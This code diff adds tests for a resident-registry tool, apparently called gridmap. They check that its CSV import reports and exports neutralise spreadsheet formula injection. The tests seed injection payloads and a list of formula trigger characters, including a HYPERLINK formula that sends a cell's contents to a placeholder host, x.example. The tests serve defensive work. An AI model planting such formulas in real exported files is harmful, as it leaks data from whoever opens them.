@@ -164,3 +164,45 @@ def test_import_strict_loads_nothing_and_fails(env, tmp_path):
     result = runner.invoke(app, ["registry", "import", str(source), "--strict"])
     assert result.exit_code == 1 and "nothing loaded" in result.output
     assert scalar(url, "SELECT count(*) FROM person") == before
+
+
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _cells(*paths):
+    return [(p.name, v) for p in paths for row in csv.reader(p.open(encoding="utf-8")) for v in row]
+
+
+def test_the_import_report_never_starts_a_formula(env, tmp_path):
+    """CSV injection: a cell typed as =HYPERLINK(…) or @SUM(…) runs in the spreadsheet of
+    whoever opens the file; every CSV gridmap writes prefixes such a cell with ' (OWASP)."""
+    _, data = env
+    county = data.areas[data.areas.level == "grid"].iloc[1].code[:6]
+    source = tmp_path / "residents.csv"
+    with source.open("w", newline="", encoding="utf-8") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(["户号", "姓名", "身份证号", "与户主关系", "经度", "纬度"])
+        writer.writerow(["@SUM(1+1)", "=1+2", id_number(912, "19700101", county), "户主", 121.0,
+                         31.0])  # outside the jurisdiction: refused, in the report  # fmt: skip
+    report = tmp_path / "refused.csv"
+    result = runner.invoke(app, ["registry", "import", str(source), "--report", str(report)])
+    assert result.exit_code == 0, result.output
+    cells = _cells(report)
+    assert not [c for c in cells if c[1].startswith(TRIGGERS)]
+    assert ("refused.csv", "'@SUM(1+1)") in cells
+
+
+def test_the_registry_export_never_starts_a_formula(session, registry, tmp_path):
+    from gridmap.registry.export import export_area
+    from tests.registry.conftest import CELL
+
+    registry.people["林芳"].name = '=HYPERLINK("http://x.example/?"&A1,"查看")'
+    registry.unit.name = "@SUM(A1:A9)"
+    registry.buildings["a"].address = "+86-595-1234"
+    session.flush()
+    export_area(session, CELL, tmp_path, "csv")  # masked, as by default
+    cells = _cells(*sorted(tmp_path.glob("*.csv")))
+    assert not [c for c in cells if c[1].startswith(TRIGGERS)]
+    people = [v for name, v in cells if name.endswith("people.csv")]
+    assert any(v.startswith("'=") for v in people)
+    assert any(v.startswith("'@") for name, v in cells if name.endswith("work_units.csv"))
